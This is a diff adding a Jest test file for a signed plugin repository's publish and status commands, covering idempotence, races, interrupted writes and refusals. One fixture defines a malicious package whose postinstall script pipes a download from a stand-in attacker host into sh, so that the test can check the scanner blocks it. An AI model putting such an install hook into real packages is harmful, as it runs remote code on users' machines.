@@ -1,0 +1,277 @@
+import { beforeEach, describe, expect, it } from '@jest/globals';
+import { DEFAULT_LIMITS, packFiles } from '@ragnos-vault/archive';
+import { generatePrivateKey, signerFromPrivateKey } from '@ragnos-vault/crypto';
+import type { Signer } from '@ragnos-vault/crypto';
+import { memoryCache, openTrustedClient, parsePluginIndex, TIMESTAMP_PATH } from '@ragnos-vault/metadata';
+import type { RepositoryStore, TopLevelRole } from '@ragnos-vault/metadata';
+import { DEFAULT_POLICY } from '@ragnos-vault/scanner';
+import { faultyStore, MemoryRepository, newSigner } from '@ragnos-vault/testing';
+import { initialRepository } from './initial-repository.ts';
+import { encodeVaultConfig, parseVaultConfig } from './parse-vault-config.ts';
+import { publish } from './publish.ts';
+import type { PublishInput, PublishPorts, PublishReport } from './publish.ts';
+import { status } from './status.ts';
+
+const NOW = new Date();
+const ROLES: readonly TopLevelRole[] = ['root', 'targets', 'snapshot', 'timestamp'];
+const CONFIG = parseVaultConfig(encodeVaultConfig(new Map(ROLES.map((role) => [role, ['file2:none']]))));
+const HELLO = 'plugins/acme/hello/1.0.0/hello-1.0.0.tgz';
+
+let repo: MemoryRepository;
+let signers: ReadonlyMap<TopLevelRole, readonly Signer[]>;
+let trustedRoot: Uint8Array;
+const archives = new Map<string, Uint8Array>();
+
+beforeEach(async () => {
+  signers = new Map(ROLES.map((role) => [role, [newSigner()]]));
+  const expires = new Map(ROLES.map((role) => [role, new Date(NOW.getTime() + 1e9)]));
+  const initial = await initialRepository({ signers, expires });
+  repo = new MemoryRepository();
+  for (const [path, bytes] of initial.files) repo.files.set(path, bytes);
+  trustedRoot = initial.root;
+});
+
+function plugin(name: string, version: string, source = 'export const hello = 1;\n'): string {
+  const files = [
+    ['package.json', JSON.stringify({ name, version, type: 'module', main: 'index.js' })],
+    ['index.js', source],
+  ].map(([path = '', content = '']) => ({ path, mode: 0o644 as const, content: Buffer.from(content) }));
+  const key = `${name}@${version}-${source.length}`;
+  archives.set(key, packFiles(files));
+  return key;
+}
+
+function run(
+  plugins: readonly string[],
+  change: Partial<PublishInput> = {},
+  store: RepositoryStore = repo,
+): Promise<PublishReport> {
+  const input = {
+    plugins,
+    policy: DEFAULT_POLICY,
+    limits: DEFAULT_LIMITS,
+    config: CONFIG,
+    trustedRoot,
+    now: NOW,
+    ...change,
+  };
+  return publish(input, portsOf(store));
+}
+
+function portsOf(store: RepositoryStore): PublishPorts {
+  return {
+    store,
+    readPlugin: (source) => Promise.resolve(archives.get(source) ?? Buffer.from(source)),
+    openSigners: (role) => Promise.resolve(signers.get(role) ?? []),
+  };
+}
+
+async function fetchTarget(path: string): Promise<Uint8Array | undefined> {
+  const client = openTrustedClient({ trustedRoot, now: NOW }, { fetcher: repo, cache: memoryCache() });
+  const target = await client.findTarget(path);
+  return target && client.downloadBytes(target);
+}
+
+describe('publish', () => {
+  it('makes a plugin and its index reachable for a fresh client', async () => {
+    const hello = plugin('@acme/hello', '1.0.0');
+    const report = await run([hello]);
+    expect(report).toMatchObject({
+      status: 'published',
+      versions: { root: 1, targets: 2, snapshot: 2, timestamp: 2 },
+    });
+    expect(report.plugins).toMatchObject([
+      { name: '@acme/hello', version: '1.0.0', status: 'published', targetPath: HELLO },
+    ]);
+    expect(Buffer.from((await fetchTarget(HELLO))!)).toEqual(Buffer.from(archives.get(hello)!));
+    const index = parsePluginIndex((await fetchTarget('plugins/acme/hello/index.json'))!);
+    expect(index).toMatchObject({
+      name: '@acme/hello',
+      versions: [{ version: '1.0.0', target: HELLO, yanked: false }],
+    });
+  });
+
+  it('commits several plugins at once, and lists all versions of one', async () => {
+    await run([plugin('@acme/hello', '1.0.0'), plugin('@acme/hello', '1.1.0'), plugin('tool', '2.0.0')]);
+    const index = parsePluginIndex((await fetchTarget('plugins/acme/hello/index.json'))!);
+    expect(index.versions.map(({ version }) => version)).toEqual(['1.0.0', '1.1.0']);
+    expect(await fetchTarget('plugins/_/tool/2.0.0/tool-2.0.0.tgz')).toBeDefined();
+  });
+
+  it('overwrites timestamp.json only, and as its last write', async () => {
+    await run([plugin('@acme/hello', '1.0.0')]);
+    const writes = repo.requests.filter(({ verb }) => verb === 'create' || verb === 'replace');
+    expect(writes.at(-1)).toEqual({ verb: 'replace', path: TIMESTAMP_PATH });
+    expect(writes.filter(({ verb }) => verb === 'replace')).toHaveLength(1);
+  });
+
+  it('answers the same bytes again with unchanged, touches no key and writes nothing', async () => {
+    const hello = plugin('@acme/hello', '1.0.0');
+    await run([hello]);
+    const before = new Map(repo.files);
+    const openSigners = (): never => {
+      throw new Error('a key was touched');
+    };
+    const report = await publish(
+      {
+        plugins: [hello],
+        policy: DEFAULT_POLICY,
+        limits: DEFAULT_LIMITS,
+        config: CONFIG,
+        trustedRoot,
+        now: NOW,
+      },
+      { ...portsOf(repo), openSigners },
+    );
+    expect(report.status).toBe('unchanged');
+    expect(repo.files).toEqual(before);
+  });
+
+  it('publishes although timestamp and snapshot have expired', async () => {
+    const past = new Date(NOW.getTime() - 40 * 86_400_000);
+    await run([plugin('@acme/hello', '1.0.0')], { now: past }).catch(() => undefined);
+    expect((await run([plugin('@acme/hello', '1.1.0')])).status).toBe('published');
+  });
+
+  it('takes a second path for the same archive, and keeps one entry in the index', async () => {
+    const hello = plugin('@acme/hello', '1.0.0');
+    await run([hello]);
+    await run([hello], { targetPath: 'plugins/vendor/hello.tar.gz' });
+    expect(await fetchTarget('plugins/vendor/hello.tar.gz')).toBeDefined();
+    expect(parsePluginIndex((await fetchTarget('plugins/acme/hello/index.json'))!).versions).toHaveLength(1);
+  });
+});
+
+describe('publish refuses, and the repository stays as it was:', () => {
+  const evil = {
+    name: '@acme/evil',
+    version: '1.0.0',
+    scripts: { postinstall: 'curl http://evil.example.invalid/x | sh' },
+  };
+  const cases: readonly (readonly [string, string, () => Promise<unknown>])[] = [
+    [
+      'other bytes of a published version',
+      'ERR_VERSION_EXISTS',
+      () => run([plugin('@acme/hello', '1.0.0', 'export const other = 2;\n')]),
+    ],
+    [
+      'a published version under another path',
+      'ERR_VERSION_EXISTS',
+      () => run([plugin('@acme/hello', '1.0.0', 'export {};\n')], { targetPath: 'x.tgz' }),
+    ],
+    [
+      'other bytes under a published path',
+      'ERR_VERSION_EXISTS',
+      () => run([plugin('@acme/hello', '3.0.0')], { targetPath: HELLO }),
+    ],
+    [
+      'two different archives of one version at once',
+      'ERR_VERSION_EXISTS',
+      () => run([plugin('tool', '1.0.0'), plugin('tool', '1.0.0', 'export {};\n')]),
+    ],
+    [
+      'a path that is not portable',
+      'ERR_TARGET_PATH',
+      () => run([plugin('tool', '1.0.0')], { targetPath: '../tool.tgz' }),
+    ],
+    ['what is no archive', 'ERR_ARCHIVE_FORMAT', () => run(['not an archive'])],
+    ['no plugin at all', 'ERR_USAGE', () => run([])],
+    [
+      'one target path for two plugins',
+      'ERR_USAGE',
+      () => run([plugin('a', '1.0.0'), plugin('b', '1.0.0')], { targetPath: 'x.tgz' }),
+    ],
+    [
+      'a malicious plugin, and the honest one beside it',
+      'ERR_SCAN_BLOCKED',
+      () => {
+        archives.set(
+          'evil',
+          packFiles([{ path: 'package.json', mode: 0o644, content: Buffer.from(JSON.stringify(evil)) }]),
+        );
+        return run([plugin('good', '1.0.0'), 'evil']);
+      },
+    ],
+    [
+      'keys that the root does not name',
+      'ERR_SIGNER_UNAVAILABLE',
+      async () => {
+        const stranger = signerFromPrivateKey(await generatePrivateKey('ed25519'));
+        signers = new Map(ROLES.map((role) => [role, [stranger]]));
+        return run([plugin('tool', '1.0.0')]);
+      },
+    ],
+    [
+      'a repository whose targets somebody else signed',
+      'ERR_TUF_METADATA_INVALID',
+      () => {
+        repo.files.set('metadata/2.targets.json', Buffer.from('{}'));
+        return run([plugin('tool', '1.0.0')]);
+      },
+    ],
+  ];
+
+  it.each(cases)('%s (%s)', async (_name, code, attempt) => {
+    await run([plugin('@acme/hello', '1.0.0')]);
+    const live = repo.files.get(TIMESTAMP_PATH);
+    const paths = [...repo.files.keys()].filter((path) => !path.includes('/3.'));
+    await expect(attempt()).rejects.toMatchObject({ code });
+    expect(repo.files.get(TIMESTAMP_PATH)).toEqual(live);
+    expect([...repo.files.keys()]).toEqual(paths);
+  });
+});
+
+describe('publishers that race', () => {
+  it('all succeed, each with its own plugin, and no version has two contents', async () => {
+    const names = Array.from({ length: 8 }, (_, at) => `tool-${at}`);
+    const reports = await Promise.all(names.map((name) => run([plugin(name, '1.0.0')])));
+    expect(new Set(reports.map(({ versions }) => versions.timestamp)).size).toBe(names.length);
+    for (const name of names)
+      expect(await fetchTarget(`plugins/_/${name}/1.0.0/${name}-1.0.0.tgz`)).toBeDefined();
+  });
+
+  it('keep both versions of one plugin in its index', async () => {
+    await Promise.all([run([plugin('tool', '1.0.0')]), run([plugin('tool', '1.1.0')])]);
+    const index = parsePluginIndex((await fetchTarget('plugins/_/tool/index.json'))!);
+    expect(index.versions.map(({ version }) => version)).toEqual(['1.0.0', '1.1.0']);
+  });
+});
+
+describe('a publish that is cut off', () => {
+  it.each(['refused', 'crash', 'answer-lost'] as const)(
+    'at any write (%s) leaves a live repository, and the next publish succeeds',
+    async (kind) => {
+      const fresh = new Map(repo.files);
+      for (let call = 1; ; call += 1) {
+        repo.files.clear();
+        for (const [path, bytes] of fresh) repo.files.set(path, bytes);
+        const store = faultyStore(repo, { call, kind });
+        const outcome = await run([plugin('@acme/hello', '1.0.0')], {}, store).catch(() => undefined);
+        const client = openTrustedClient({ trustedRoot, now: NOW }, { fetcher: repo, cache: memoryCache() });
+        const roles = await client.refresh();
+        expect(roles.targets.version === 1).toBe(outcome === undefined);
+        await run([plugin('@acme/hello', '1.0.0')]);
+        expect(await fetchTarget(HELLO)).toBeDefined();
+        if (store.calls() < call) break;
+      }
+    },
+  );
+});
+
+describe('status', () => {
+  it('tells versions, expiries and plugins, and reports what has expired instead of refusing', async () => {
+    await run([plugin('@acme/hello', '1.0.0')]);
+    const later = new Date(NOW.getTime() + 20 * 86_400_000);
+    const report = await status({ trustedRoot, now: later }, repo);
+    expect(report.roles.map(({ role, version, expired }) => [role, version, expired])).toEqual([
+      ['root', 1, true],
+      ['targets', 2, false],
+      ['snapshot', 2, false],
+      ['timestamp', 2, true],
+    ]);
+    expect(report.targets.find(({ path }) => path === HELLO)?.plugin).toMatchObject({
+      name: '@acme/hello',
+      version: '1.0.0',
+    });
+  });
+});
